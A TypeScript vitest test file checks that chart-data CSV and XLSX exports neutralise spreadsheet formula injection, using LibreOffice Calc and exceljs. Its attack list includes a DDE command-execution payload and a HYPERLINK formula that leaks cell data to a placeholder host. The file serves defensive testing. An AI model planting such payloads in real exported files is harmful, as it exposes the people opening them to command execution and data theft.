/**
 * Page names and post texts such as `=HYPERLINK(...)` in the chart-data files: opened in a spreadsheet they stay
 * text. The CSV is checked with the spreadsheet the audit used (LibreOffice Calc converts it to XLSX, which exceljs
 * reads back: no cell may be a formula); the XLSX is checked directly (text cells are strings, no <f> elements).
 */
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { DataTable } from './chartData'
import { toCsv, toXlsx } from './dataFiles'

// Calc is a separate package from Impress (Debian: libreoffice-calc, whose library is libsclo.so).
const calc =
  spawnSync('sh', ['-c', 'command -v soffice']).status === 0 && existsSync('/usr/lib/libreoffice/program/libsclo.so')
if (!calc)
  console.log(
    'formulaInjection.test: skipped the LibreOffice Calc check: soffice with Calc not found (apt-get install libreoffice-calc)'
  )

const ATTACKS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?leak="&A2,"click")',
  '@SUM(1+1)',
  '+2+3',
  '-2+3',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '-3'
]
/** Each attack as a page name and as a post text, next to a number column holding negative and signed numbers. */
const table: DataTable = {
  columns: [
    { name: 'institution', type: 'text' },
    { name: 'text', type: 'text' },
    { name: 'change', type: 'number' }
  ],
  rows: ATTACKS.map((a, i) => [a, `${a} post`, i % 2 ? -3 - i : 1.5 + i])
}

/** Cells as an XLSX holds them: XML readers turn a raw CR into LF (XML 1.0 end-of-line handling). */
const inXlsx = (rows: DataTable['rows']) =>
  rows.map((r) => r.map((v) => (typeof v === 'string' ? v.replace(/\r/g, '\n') : v)))

type Value = ExcelJS.CellValue
const rowsOf = (ws: ExcelJS.Worksheet): Value[][] => {
  const out: Value[][] = []
  ws.eachRow((row) => out.push(table.columns.map((_, i) => row.getCell(i + 1).value)))
  return out
}

describe('formula injection in chart-data exports', () => {
  let dir = ''
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sb-formula-'))
  })
  afterAll(() => rm(dir, { recursive: true, force: true }))

  it.skipIf(!calc)(
    'CSV: LibreOffice Calc opens every attack as text, with a leading quote; numbers stay numbers',
    async () => {
      await writeFile(join(dir, 'data.csv'), toCsv(table))
      execFileSync(
        'soffice',
        [
          '--headless',
          `-env:UserInstallation=file://${join(dir, 'profile')}`,
          '--infilter=CSV:44,34,76,1',
          '--convert-to',
          'xlsx',
          '--outdir',
          dir,
          join(dir, 'data.csv')
        ],
        { timeout: 120_000, stdio: 'pipe' }
      )
      const wb = new ExcelJS.Workbook()
      await wb.xlsx.readFile(join(dir, 'data.xlsx'))
      const [header, ...rows] = rowsOf(wb.worksheets[0])
      expect(header).toEqual(['institution', 'text', 'change'])
      expect(rows).toEqual(inXlsx(table.rows.map(([name, text, n]) => [`'${name}`, `'${text}`, n])))
    },
    150_000
  )

  it('XLSX: every attack is a string cell (no formula), numbers are numbers', async () => {
    const zip = await JSZip.loadAsync(await toXlsx(table, 'Data', ['=1+1 in a methodology line']))
    const sheets = Object.keys(zip.files).filter((p) => /^xl\/worksheets\/.*\.xml$/.test(p))
    expect(sheets).toHaveLength(2)
    for (const p of sheets) expect(await zip.file(p)!.async('string'), p).not.toMatch(/<f[ >]/)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load((await zip.generateAsync({ type: 'nodebuffer' })) as never)
    const [, ...rows] = rowsOf(wb.worksheets[0])
    expect(rows).toEqual(inXlsx(table.rows))
    expect(wb.worksheets[1].getCell('A1').value).toBe('=1+1 in a methodology line')
  })
})
